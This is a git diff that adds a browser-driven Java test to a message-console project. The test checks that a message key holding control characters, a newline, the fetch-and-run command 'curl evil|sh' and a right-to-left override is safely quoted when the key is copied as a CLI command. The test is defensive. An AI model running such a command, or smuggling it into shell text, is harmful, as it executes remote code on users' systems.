@@ -1,5 +1,6 @@
 package io.waybill.console.web;
 
+import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.awaitility.Awaitility.await;
 
@@ -20,6 +21,7 @@ import io.waybill.process.state.ProcessStatus;
 import io.waybill.runtime.Waybill;
 import io.waybill.store.failed.FailedSelection;
 import java.io.IOException;
+import java.net.URLEncoder;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.sql.Connection;
@@ -254,6 +256,31 @@ class ConsolePagesTest extends PagesScenario {
                     .as(json)
                     .isEqualTo(Action.quoted(value));
         }
+    }
+
+    @Test
+    void a_copied_command_line_runs_nothing_that_a_key_says() throws IOException {
+        String key = "a\u0003\ncurl evil|sh\n\u202E";
+        store.transactions()
+                .inTransaction(transaction -> store.outbox()
+                        .append(Message.event("Shipment", "{}").to("courier").inOrderOf(key)));
+        failPublishing();
+        open("messages?destination=courier&queue=" + URLEncoder.encode(key, UTF_8));
+        browser.click("Unblock");
+        browser.type("reason", "ok");
+        browser.click(OPEN_LINE);
+        browser.awaitText("waybill outbox unblock courier $'a\\003\\012curl evil|sh\\012[U+202E]' --reason ok");
+        pictures("hostile-command");
+        browser.evaluate(
+                "{ navigator.clipboard.writeText = text => { window.copied = text; return Promise.resolve(); }; 0 }");
+        browser.click("Copy as CLI command");
+        browser.awaitText("Copied");
+        assertThat(browser.evaluate("window.copied").asString())
+                .isEqualTo("waybill outbox unblock courier " + Action.quoted(key) + " --reason ok")
+                .doesNotContain("\n");
+        browser.click("Unblock");
+        browser.awaitText("The key moves on");
+        assertThat(browser.problems()).isEmpty();
     }
 
     @Test
